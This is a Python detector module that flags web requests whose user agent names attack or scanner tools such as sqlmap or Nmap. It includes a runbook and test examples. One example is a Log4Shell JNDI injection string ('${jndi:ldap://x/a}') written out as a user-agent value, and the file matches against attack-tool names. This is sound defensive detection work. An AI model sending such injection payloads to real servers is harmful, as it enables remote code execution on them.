"""Known attack tools by their user agent: sqlmap, nikto, nmap, nuclei and the like."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import partial

from detectors.base import Example, History, Window, finding
from detectors.intrusion.web import FAMILY, WEB_ACTIONS, remembered, request
from monitor.events import Event
from monitor.findings import Finding, Severity
from monitor.intrusion_settings import ScannerAgentSettings

# User agents whose verdict is remembered (the least recently seen go first).
AGENTS_KEPT = 4096


def tool(pattern: re.Pattern[str], agent: str) -> str | None:
    """The attack tool named in `agent`, lower-cased, or None."""
    match = pattern.search(agent)
    return None if match is None else match[0].lower()


@dataclass(frozen=True, slots=True)
class ScannerAgent:
    """One request is enough: these tools announce themselves (CrowdSec http-bad-user-agent)."""

    settings: ScannerAgentSettings
    id: str = "intrusion.scanner_agent"
    family: str = FAMILY
    title: str = "Attack tool"
    severity: Severity = Severity.LOW
    mitre: str = "T1595.002"
    actions: frozenset[str] = WEB_ACTIONS
    windows: tuple[Window, ...] = ()
    runbook: str = (
        "A vulnerability scanner or attack tool is pointed at the website. Block the IP, "
        "then look at the other intrusion incidents of the same IP: what it tried and whether "
        "anything answered 200 where it should not."
    )
    # A site sees a few hundred user agents again and again: each is searched once.
    tool_in: Callable[[str], str | None] = field(init=False, repr=False, compare=False)

    def __post_init__(self) -> None:
        fragments = "|".join(re.escape(agent) for agent in self.settings.agents)
        pattern = re.compile(fragments, re.IGNORECASE)
        object.__setattr__(self, "tool_in", remembered(partial(tool, pattern), AGENTS_KEPT))

    def evaluate(self, event: Event, history: History) -> Finding | None:
        agent = event.user_agent
        if agent is None or event.source_ip is None:
            return None
        found = self.tool_in(agent)
        if found is None:
            return None
        return finding(
            self,
            event,
            title=f"{self.title} ({found}) from {event.source_ip}",
            key=f"ip={event.source_ip}",
            entities={"ip": event.source_ip},
        )

    def examples(self) -> tuple[Example, ...]:
        ip = "198.51.100.40"
        return (
            Example("sqlmap", (request(ip, "/", agent="sqlmap/1.7.2#stable"),), fires=True),
            Example(
                "Nmap Scripting Engine",
                (request(ip, "/", 404, agent="Mozilla/5.0 (compatible; Nmap Scripting Engine)"),),
                fires=True,
            ),
            Example(
                "Log4Shell in the agent", (request(ip, "/", agent="${jndi:ldap://x/a}"),), True
            ),
            Example("a browser", (request(ip, "/"),), fires=False),
            Example("curl", (request(ip, "/", agent="curl/8.5.0"),), fires=False),
        )
